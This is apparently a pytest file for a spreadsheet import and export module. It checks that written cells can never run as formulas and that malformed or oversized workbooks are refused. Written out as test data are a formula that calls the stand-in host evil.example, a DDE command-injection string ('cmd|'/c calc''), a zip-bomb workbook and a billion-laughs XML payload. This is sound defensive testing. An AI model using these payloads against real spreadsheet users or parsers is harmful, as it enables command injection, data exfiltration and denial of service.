"""Spreadsheets in and out: values, limits, and nothing that a program would run."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detente.errors import TableError
from detente.exchange import csv_text, read_sheet, sheet_of_text, workbook_bytes
from detente.exchange import spreadsheet as rules
from detente.exchange.spreadsheet import column_letters


def cells(text: str) -> list[tuple[str, ...]]:
    return [row for _, row in sheet_of_text(text).rows]


def code(error: pytest.ExceptionInfo[TableError]) -> str:
    return error.value.diagnostics[0].code


def book(path: Path, fill: Any, title: str = "Sheet") -> Path:
    """A workbook as some other program writes it."""
    from openpyxl import Workbook

    made = Workbook()
    sheet = made.worksheets[0]
    sheet.title = title
    fill(sheet)
    made.save(path)
    return path


def test_separators_blank_rows_and_white_space() -> None:
    assert cells("a;b\n\n x ; y,z \n;;\n") == [("a", "b"), ("x", "y,z")]
    assert cells("a\tb\n1\t2\n") == [("a", "b"), ("1", "2")]
    assert cells('a,b\n"two\nlines","say ""so"""\n') == [("a", "b"), ("two\nlines", 'say "so"')]


def test_rows_keep_their_numbers() -> None:
    assert [number for number, _ in sheet_of_text("a,b\n\n1,2\n").rows] == [1, 3]


def test_files_as_excel_saves_them_are_read(tmp_path: Path) -> None:
    path = tmp_path / "m.csv"
    for encoding, note in (("utf-8-sig", False), ("utf-16", False), ("cp1252", True)):
        path.write_bytes("id;naïve\r\nx;é\r\n".encode(encoding))
        found = read_sheet(path)
        assert [row for _, row in found.rows] == [("id", "naïve"), ("x", "é")]
        assert bool(found.notes) is note


def test_values_of_a_workbook_become_text(tmp_path: Path) -> None:
    values = ["id", date(2021, 12, 3), datetime(2021, 12, 3, 14, 30), 0.3, 2, 0, 30.0, True, "++", None, " x "]
    found = read_sheet(book(tmp_path / "m.xlsx", lambda sheet: sheet.append(values)))
    wanted = ("id", "2021-12-03", "2021-12-03", "0.3", "2", "0", "30", "TRUE", "++", "", "x")
    assert found.rows == ((1, wanted),)


def test_formulas_count_for_the_value_that_was_saved(tmp_path: Path) -> None:
    """openpyxl saves no value with a formula, so none is found; it is not worked out."""
    path = book(tmp_path / "m.xlsx", lambda sheet: sheet.append(["id", "=1+1", '=WEBSERVICE("http://evil.example")']))
    assert read_sheet(path).rows == ((1, ("id",)),)


def test_the_sheet_named_evidence_is_preferred(tmp_path: Path) -> None:
    from openpyxl import Workbook

    made = Workbook()
    made.worksheets[0].append(["other"])
    made.create_sheet("Evidence").append(["right"])
    made.save(tmp_path / "m.xlsx")
    assert read_sheet(tmp_path / "m.xlsx").rows[0][1] == ("right",)
    assert read_sheet(tmp_path / "m.xlsx", "Sheet").rows[0][1] == ("other",)
    with pytest.raises(TableError, match="The sheets are: Sheet, Evidence") as error:
        read_sheet(tmp_path / "m.xlsx", "Data")
    assert code(error) == "T103"


DANGEROUS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "'=1", "''=1", "=cmd|'/c calc'!A0", "-", "++", "'", "'a", "a=b"]


def test_nothing_written_to_csv_can_be_a_formula() -> None:
    text = csv_text([DANGEROUS])
    for written in next(csv.reader(io.StringIO(text))):
        assert written[:1] not in "=@\t" or written == ""
        assert written in ("-", "++") or written[:1] not in "+-"


@pytest.mark.parametrize("ending", [".csv", ".xlsx"])
def test_dangerous_texts_are_read_back_as_they_were(tmp_path: Path, ending: str) -> None:
    path = tmp_path / f"m{ending}"
    rows = [["head", *("h" * len(DANGEROUS))], ["x", *DANGEROUS]]
    path.write_bytes(csv_text(rows).encode() if ending == ".csv" else workbook_bytes({"evidence": rows}))
    assert list(read_sheet(path).rows[1][1]) == ["x", *(text.strip() for text in DANGEROUS)]


def test_no_cell_of_a_written_workbook_is_a_formula() -> None:
    from openpyxl import load_workbook

    sheet = load_workbook(
        io.BytesIO(workbook_bytes({"evidence": [["h", "n"], *([text, "0.3"] for text in DANGEROUS)]}))
    )
    types = {cell.data_type for row in sheet.worksheets[0].iter_rows() for cell in row if cell.value is not None}
    assert types == {"s", "n"}
    quoted = [row[0].quotePrefix for row in sheet.worksheets[0].iter_rows(min_row=2) if row[0].data_type == "s"]
    assert quoted[:3] == [True] * 3


def test_days_are_dates_and_numbers_numbers() -> None:
    from openpyxl import load_workbook

    data = workbook_bytes({"e": [["day", "p", "text"], ["2021-12-03", "0.3", "0.30"]]}, ("day",))
    row = [cell.value for cell in next(load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(min_row=2))]
    assert row == [datetime(2021, 12, 3), 0.3, "0.30"]


@settings(max_examples=100, deadline=None)
@given(
    st.lists(
        st.lists(st.text(st.characters(codec="utf-8", categories=("L", "N", "P", "S", "Zs"))), min_size=1, max_size=4),
        min_size=1,
        max_size=4,
    )
)
def test_any_text_survives_csv(rows: list[list[str]]) -> None:
    kept = [tuple(cell.strip() for cell in row) for row in rows]
    wanted = []
    for row in kept:
        while row and not row[-1]:
            row = row[:-1]
        if row:
            wanted.append(row)
    # The first row says what separates cells, so it is one that leaves no doubt.
    assert cells("a,b,c,d,e,f,g,h,i\n" + csv_text(kept))[1:] == wanted


# --------------------------------------------------------------------------- strangers
@pytest.mark.parametrize(
    ("name", "content", "wanted"),
    [
        ("m.pdf", b"x", "T103"),
        ("m.xls", b"x", "T103"),
        ("m.xlsx", b"not a zip file", "T103"),
        ("m.xlsx", b"PK\x03\x04broken", "T103"),
        ("m.csv", b"id\0a,b", "T101"),
        ("m.csv", b"\xff\xfea", "T101"),
        ("m.csv", b"x" * (rules.MOST_BYTES + 1), "T102"),
        ("m.csv", b"id\n" + b"x\n" * (rules.MOST_ROWS + 1), "T102"),
        ("m.csv", b"," * rules.MOST_COLUMNS + b"x", "T102"),
        ("m.csv", b"x" * (rules.MOST_CELL + 1), "T102"),
        ("m.csv", b'"' + b"x" * 200_000, "T103"),
    ],
    ids=lambda value: repr(value)[:20],
)
def test_refused(tmp_path: Path, name: str, content: bytes, wanted: str) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(TableError) as error:
        read_sheet(path)
    assert code(error) == wanted
    assert str(path) in str(error.value)


@pytest.mark.parametrize("name", ["none.csv", "."])
def test_what_is_no_file_is_refused(tmp_path: Path, name: str) -> None:
    with pytest.raises(TableError) as error:
        read_sheet(tmp_path / name)
    assert code(error) in ("T100", "T103")


def parts(path: Path, change: dict[str, bytes], source: Path) -> Path:
    """A workbook with some of its parts replaced."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            new.writestr(item.filename, change.get(item.filename, old.read(item)))
        for name in set(change) - set(old.namelist()):
            new.writestr(name, change[name])
    return path


def test_a_workbook_that_would_swell_is_refused_unread(tmp_path: Path) -> None:
    good = book(tmp_path / "good.xlsx", lambda sheet: sheet.append(["id"]))
    bomb = parts(tmp_path / "bomb.xlsx", {"xl/media/x.bin": b"\0" * (rules.MOST_UNPACKED + 1)}, good)
    assert bomb.stat().st_size < 200_000
    with pytest.raises(TableError) as error:
        read_sheet(bomb)
    assert code(error) == "T102"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_workbook_with_entities_is_refused(tmp_path: Path, encoding: str) -> None:
    good = book(tmp_path / "good.xlsx", lambda sheet: sheet.append(["id"]))
    laughs = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'.encode(encoding)
    with pytest.raises(TableError) as error:
        read_sheet(parts(tmp_path / "bad.xlsx", {"xl/worksheets/sheet1.xml": laughs}, good))
    assert code(error) == "T103"


def test_a_workbook_without_sense_is_refused(tmp_path: Path) -> None:
    good = book(tmp_path / "good.xlsx", lambda sheet: sheet.append(["id"]))
    for part in ("xl/workbook.xml", "xl/worksheets/sheet1.xml", "[Content_Types].xml"):
        with pytest.raises(TableError):
            read_sheet(parts(tmp_path / "bad.xlsx", {part: b"<x><y></x>"}, good))


def test_a_workbook_that_claims_a_million_rows_is_read_for_what_it_holds(tmp_path: Path) -> None:
    def fill(sheet: Any) -> None:
        sheet.append(["id"])
        sheet.cell(1_000_000, 1, "far away")

    assert read_sheet(book(tmp_path / "m.xlsx", fill)).rows == ((1, ("id",)),)


def test_columns_are_named_as_spreadsheets_do() -> None:
    assert [column_letters(k) for k in (1, 26, 27, 52, 703)] == ["A", "Z", "AA", "AZ", "AAA"]
